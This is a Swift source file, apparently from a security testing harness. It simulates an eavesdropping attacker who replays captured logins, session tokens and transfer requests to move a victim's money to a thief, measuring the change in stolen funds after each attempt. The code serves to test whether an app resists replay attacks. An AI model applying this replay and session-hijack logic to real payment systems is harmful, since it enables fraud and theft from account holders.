/// What a thief does with what he has read on the wire.
extension Stage {
    /// Uses logins and tokens out of what was read to move the victim's money to the thief. In words what came of it; nil where
    /// nothing of the kind passed, or none of it was of use. `key` where the attacker has the app's, too.
    package func robbed(_ victim: any Victim, by exchanges: [RawExchange], key: AppKey? = nil) async throws -> String? {
        var tried: Set<String> = []
        for exchange in exchanges {
            guard let login = craft.login(in: exchange), tried.insert(login.value).inserted else { continue }
            guard let request = craft.login(login, key: key) else { continue }
            if let loot = try await moved(from: victim, signingInBy: request, key) { return loot }
        }
        for exchange in exchanges {
            guard let token = craft.token(in: exchange), tried.insert(token.token).inserted else { continue }
            if let loot = try await moved(from: victim, with: token, key) { return "a token that was read \(loot)" }
        }
        return nil
    }

    /// The same with whole logins, sent again as they stand. To be tried last: a login may end the session that was heard.
    package func robbed(_ victim: any Victim, bySendingLoginsOf exchanges: [RawExchange]) async throws -> String? {
        for exchange in exchanges where craft.login(in: exchange) != nil {
            if let loot = try await moved(from: victim, signingInBy: exchange.request, nil) { return loot }
        }
        return nil
    }

    private func moved(
        from victim: any Victim, signingInBy request: RawRequest, _ key: AppKey?
    ) async throws -> String? {
        let response = try await attack("signs in with what was read of a login", request)
        guard let token = craft.token(from: response) else { return nil }
        return try await moved(from: victim, with: token, key).map { "a login that was read \($0)" }
    }

    /// Moves money in the victim's name. In words what came of it; nil where nothing did.
    package func moved(
        from victim: any Victim, with token: CapturedToken?, _ key: AppKey? = nil
    ) async throws -> String? {
        let order = Order(payer: victim.name, payee: thief, amount: Tampering.wanted)
        guard let request = craft.transfer(order, token: token, key: key) else { return nil }
        let before = try loot()
        _ = try await attack("orders a transfer in the victim's name", request)
        let stolen = try loot() - before
        return stolen > 0 ? "moved \(stolen) of the victim's money to the thief" : nil
    }

    /// Sends what was heard of a transfer again, as it stands. In words what came of it; nil where the server did nothing for it.
    package func movedAgain(by exchanges: [RawExchange]) async throws -> String? {
        for exchange in exchanges where exchange.request.isTransfer {
            let before = try loot()
            _ = try await attack("sends the same request again", exchange.request)
            let stolen = try loot() - before
            if stolen > 0 { return "the same request, sent again, paid the thief another \(stolen)" }
        }
        return nil
    }
}
